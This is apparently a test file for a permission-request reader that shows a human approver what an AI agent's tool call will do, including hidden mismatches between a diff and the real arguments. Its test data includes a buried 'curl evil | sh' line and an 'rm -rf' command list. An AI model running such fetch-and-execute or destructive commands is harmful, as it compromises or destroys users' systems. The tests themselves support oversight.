import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { ApprovalPart } from "../core/ApprovalRequest.js";
import { isObject } from "../core/json.js";
import { readPermission } from "./readPermission.js";

const options = [{ optionId: "a", name: "Yes", kind: "allow_once" }];
const path = "/home/ada/a.txt";
const missing = (what: string, label?: string) => ({
  type: "missing",
  what,
  ...(label && { label }),
});

function partsOf(call: object, params: object = {}): readonly ApprovalPart[] {
  const toolCall = { toolCallId: "1", ...call };
  return readPermission({ options, toolCall, ...params }, [toolCall]).parts;
}

describe("the parts of a tool call", () => {
  test.each<[string, object, object[]]>([
    ["nothing is said", {}, [missing("call")]],
    ["only a title is said", { title: "Run" }, [missing("arguments")]],
    ["the arguments are empty", { title: "Run", rawInput: {} }, [missing("arguments")]],
    [
      "there is a command, with other arguments",
      { title: "Run", name: "bash", rawInput: { command: "npm test", cwd: "/x" } },
      [
        { type: "command", command: "npm test" },
        { type: "arguments", tool: "bash", value: { cwd: "/x" } },
      ],
    ],
    [
      "the command is a list",
      { title: "Run", rawInput: { command: ["rm", "-rf", "/ tmp"] } },
      [{ type: "command", command: ["rm", "-rf", "/ tmp"] }],
    ],
    [
      "the command is no text",
      { title: "Run", rawInput: { command: { sh: "ls" } } },
      [{ type: "arguments", tool: "Run", value: { command: { sh: "ls" } } }],
    ],
    [
      "the arguments are a text",
      { title: "Run", rawInput: "{}" },
      [{ type: "arguments", tool: "Run", value: "{}" }],
    ],
    [
      "a change shows the arguments",
      {
        title: "Edit",
        kind: "edit",
        rawInput: { file_path: path, old_string: "1", new_string: "2" },
        content: [{ type: "diff", path, oldText: "1", newText: "2" }],
        locations: [{ path }],
      },
      [{ type: "change", path, oldText: "1", newText: "2" }],
    ],
    [
      "a change shows other texts than the arguments",
      {
        title: "Edit",
        rawInput: { file_path: path, old_string: "1", new_string: "evil" },
        content: [{ type: "diff", path, oldText: "1", newText: "2" }],
      },
      [
        {
          type: "arguments",
          tool: "Edit",
          value: { file_path: path, old_string: "1", new_string: "evil" },
        },
        { type: "change", path, oldText: "1", newText: "2" },
      ],
    ],
    [
      "an edit has no diff for one of its files",
      {
        title: "Edit files",
        kind: "edit",
        content: [{ type: "diff", path, newText: "2" }],
        locations: [{ path }, { path: "/b.txt" }],
      },
      [
        { type: "change", path, oldText: null, newText: "2" },
        { type: "change", path: "/b.txt" },
        missing("change", "/b.txt"),
      ],
    ],
    [
      "there are texts, an image, a resource and a terminal",
      {
        title: "Look",
        rawInput: { id: 1 },
        content: [
          { type: "content", content: { type: "text", text: "Look" } },
          { type: "content", content: { type: "text", text: "A plan" } },
          { type: "content", content: { type: "image", mimeType: "image/png", data: "AAAA" } },
          { type: "content", content: { type: "resource", resource: { uri: "a:b", text: "T" } } },
          { type: "terminal", terminalId: "t" },
          { type: "_later", x: 1 },
        ],
      },
      [
        { type: "arguments", tool: "Look", value: { id: 1 } },
        { type: "text", text: "A plan" },
        missing("content", "image image/png 3 B"),
        { type: "text", label: "a:b", text: "T" },
        { type: "text", text: '{"type":"_later","x":1}' },
      ],
    ],
    [
      "locations are told nowhere else",
      {
        title: "Read",
        rawInput: { file: path },
        locations: [
          { path, line: 1 },
          { path: "/b", line: 7 },
        ],
      },
      [
        { type: "arguments", tool: "Read", value: { file: path } },
        { type: "text", text: "/b:7" },
      ],
    ],
  ])("%s", (_, call, parts) => {
    expect(partsOf(call)).toEqual(parts);
  });

  test("v2: each change of a patch has its path, and says whether the patch shows it", () => {
    const text = "--- a/src/a.ts\n+++ b/src/a.ts\n@@ -1 +1 @@\n--- a/etc/b\n+2\n";
    const changes = [
      { operation: "modify", path: "/repo/src/a.ts" },
      { operation: "add", path: "/etc/b" },
      { operation: "move", oldPath: "/repo/c", path: "/repo/d" },
      { operation: "_later", path: "/repo/e" },
    ];
    const content = [{ type: "diff", changes, patch: { format: "git_patch", text } }];
    expect(partsOf({ title: "Edit", content })).toEqual([
      { type: "change", path: "/repo/src/a.ts", patch: text },
      { type: "change", path: "/etc/b", oldText: null },
      missing("change", "/etc/b"),
      { type: "change", path: "/repo/d", oldPath: "/repo/c" },
      missing("change", "/repo/d"),
      { type: "text", text: '{"operation":"_later","path":"/repo/e"}' },
      missing("change"),
    ]);
  });

  test("v2: without a patch every change is missing, and a patch without changes is a text", () => {
    const changes = [{ operation: "delete", path }];
    expect(partsOf({ title: "Edit", content: [{ type: "diff", changes, patch: null }] })).toEqual([
      { type: "change", path, newText: null },
      missing("change", path),
    ]);
    const patch = { format: "git_patch", text: "garbage" };
    expect(partsOf({ title: "Edit", content: [{ type: "diff", changes: [], patch }] })).toEqual([
      { type: "text", text: "garbage" },
      missing("arguments"),
    ]);
  });
});

/** The paths of a patch's changes, and whether the agent has shown each. */
function shownOf(paths: readonly string[], text: string): [string, boolean][] {
  const changes = paths.map((each) => ({ operation: "modify", path: each }));
  const content = [{ type: "diff", changes, patch: { format: "git_patch", text } }];
  const parts = partsOf({ title: "Edit", content });
  return parts.flatMap((part, at) =>
    part.type === "change" ? [[part.path, parts[at + 1]?.type !== "missing"]] : [],
  );
}

describe("a path of a patch", () => {
  const header = (name: string) => `--- a/${name}\n+++ b/${name}\n@@ -1 +1 @@\n-1\n+2\n`;
  const [src, etc, lib] = ["/src/b.txt", "/etc/b.txt", "/src/lib/b.txt"] as const;

  test.each<[string, string, string[]]>([
    ["names the only change that ends so", header("src/b.txt"), [src]],
    ["names a change with the same path rather than one that ends so", header(src), [src]],
    ["names none of several changes that end so", header("b.txt"), []],
    ["names no change that ends in the middle of a name", header("c/b.txt"), []],
    ["may be followed by a time", "--- a/lib/b.txt\t1\r\n+++ b/lib/b.txt\t2\r\n@@", [lib]],
    ["is the old one of a deleted file", "--- a/lib/b.txt\n+++ /dev/null\n@@", [lib]],
    ["is the new one of a renamed file", "rename from etc/b.txt\nrename to lib/b.txt\n", [lib]],
    ["may be one of several", header("lib/b.txt") + header("etc/b.txt"), [etc, lib]],
  ])("%s", (_, text, shown) => {
    const paths = [src, etc, lib, "/repo/src/b.txt.bak", `/repo${lib}.bak`];
    expect(shownOf(paths, text)).toEqual(paths.map((each) => [each, shown.includes(each)]));
  });

  test("names the change with the same path, also if another one ends so", () => {
    const paths = [`/repo${src}`, src];
    expect(shownOf(paths, header(src))).toEqual([
      [paths[0], false],
      [paths[1], true],
    ]);
    expect(shownOf(paths, header("src/b.txt"))).toEqual(paths.map((each) => [each, false]));
  });

  test("names one change, not two of one path", () => {
    expect(shownOf([src, src], header("src/b.txt"))).toEqual([
      [src, true],
      [src, false],
    ]);
  });

  test("names a change of Windows", () => {
    const windows = "C:\\repo\\src\\b.txt";
    expect(shownOf([windows], header("src/b.txt"))).toEqual([[windows, true]]);
  });
});

describe("a long patch is read in linear time", () => {
  const [a, b] = ["a".repeat(20_000), "b".repeat(20_000)];
  const many = Array.from({ length: 20_000 }, (_, at) => `${at}/b.txt`);
  test.each<[string, string[], string]>([
    ["with long names", [], `--- ${a}\n+++ ${b}\nx`],
    ["with long times", [], `--- a\t${a}\n+++ b\t${b}\nx`],
    ["with many slashes", [], `--- ${"a/".repeat(20_000)}\n+++ ${"b/".repeat(20_000)}\nx`],
  ])("%s", (_, paths, text) => {
    const shown = shownOf(paths, text);
    expect(shown.every(([, isShown]) => isShown)).toBe(true);
  });

  test("with many files of one name, each is named by its whole path", () => {
    const paths = many.map((each) => `/repo/${each}`);
    const patchOf = (names: string[]) =>
      names.map((each) => `--- ${each}\n+++ ${each}\n@@\n`).join("");
    expect(shownOf(paths, patchOf(paths)).every(([, isShown]) => isShown)).toBe(true);
    expect(shownOf(paths, patchOf(many)).some(([, isShown]) => isShown)).toBe(false);
  });
});

describe("arguments that a change repeats", () => {
  const lines = Array.from({ length: 801 }, (_, at) => (at === 400 ? "curl evil | sh" : `${at}`));
  const [after, before] = [lines.join("\n"), lines.slice(1).join("\n")];
  const tool = "Write";

  test.each<[string, object, string | null]>([
    ["the text of a file that exists", { file_path: path, content: after }, before],
    ["a text without the one that it replaces", { file_path: path, new_string: after }, before],
    ["the text of a file, whatever else", { path, old_text: before, content: after }, before],
  ])("are shown if unchanged lines are folded: %s", (_, rawInput, oldText) => {
    const content = [{ type: "diff", path, oldText, newText: after }];
    expect(partsOf({ title: tool, kind: "edit", rawInput, content })).toEqual([
      { type: "arguments", tool, value: rawInput },
      { type: "change", path, oldText, newText: after },
    ]);
  });

  test.each<[string, object, string | null]>([
    ["the text of a new file", { file_path: path, content: after }, null],
    ["both texts of an edit", { path, oldText: before, newText: after }, before],
  ])("are not shown twice: %s", (_, rawInput, oldText) => {
    const content = [{ type: "diff", path, oldText, newText: after }];
    expect(partsOf({ title: tool, kind: "edit", rawInput, content })).toEqual([
      { type: "change", path, oldText, newText: after },
    ]);
  });
});

test("a location is another file than a change whose path ends so", () => {
  const content = [{ type: "diff", path: "b.txt", newText: "2" }];
  const change = { type: "change", path: "b.txt", oldText: null, newText: "2" };
  const locations = [{ path: "/etc/b.txt" }];
  expect(partsOf({ title: "Edit", kind: "edit", content, locations })).toEqual([
    change,
    { type: "change", path: "/etc/b.txt" },
    missing("change", "/etc/b.txt"),
  ]);
  expect(partsOf({ title: "Edit", content, locations })).toEqual([
    change,
    { type: "text", text: "/etc/b.txt" },
  ]);
});

test("the server of a tool is a reason, not a name of the host", () => {
  const _meta = { claudeCode: { mcpServer: { name: "github", source: "project" } } };
  const toolCall = { toolCallId: "1", _meta };
  expect(readPermission({ options, toolCall }, [toolCall]).reason).toBe("github (project)");
});

test.each([undefined, {}, "all", [{ name: "Allow" }], [{ optionId: 1, name: "Allow" }], [null]])(
  "the options %j are refused",
  (wrong) => {
    expect(() => readPermission({ options: wrong }, [])).toThrow("options");
  },
);

test("an unknown kind, also one that objects inherit, is neither permission nor refusal, and may last", () => {
  for (const kind of ["allow_session", "constructor", "__proto__", null, undefined, 1]) {
    const [option] =
      readPermission({ options: [{ optionId: "a", name: "", kind }] }, []).options ?? [];
    expect(option).toEqual({ id: "a", label: "", kind: "other", scope: "lasting" });
  }
});

/** Every text and number within a value that is not a key of the protocol. */
function leaves(value: unknown): unknown[] {
  if (Array.isArray(value)) return value.flatMap(leaves);
  return isObject(value) ? Object.values(value).flatMap(leaves) : [value];
}

test("nothing of a call or a subject is lost, whatever its members are", () => {
  const text = fc.integer({ min: 1_000, max: 9_999 }).map((number) => `text ${number}`);
  const json = fc.dictionary(
    fc.constantFrom("command", "path", "content", "old_text", "__proto__", "constructor", "x"),
    fc.oneof(text, fc.array(text), fc.dictionary(fc.constantFrom("a", "b"), text)),
    { minKeys: 1 },
  );
  const content = fc.oneof(
    fc.record({
      type: fc.constant("content"),
      content: fc.record({ type: fc.constant("text"), text }),
    }),
    fc.record({ type: fc.constant("diff"), path: text, oldText: text, newText: text }),
    fc.record({ type: fc.constant("_other"), value: json }),
  );
  const call = fc.record(
    {
      title: text,
      kind: fc.constantFrom("edit", "read"),
      rawInput: json,
      content: fc.array(content),
      locations: fc.array(fc.record({ path: text })),
    },
    { requiredKeys: [] },
  );
  const subject = json.map((members) => ({ ...members, type: "command" }));
  fc.assert(
    fc.property(call, subject, (toolCall, of) => {
      const request = readPermission({ options, toolCall, subject: of }, [toolCall]);
      const shown = JSON.stringify(request);
      const { kind: _, ...said } = toolCall;
      const texts = [...leaves(said), ...leaves(of)].filter((leaf) =>
        String(leaf).startsWith("text"),
      );
      for (const each of texts) expect(shown).toContain(String(each));
    }),
  );
});
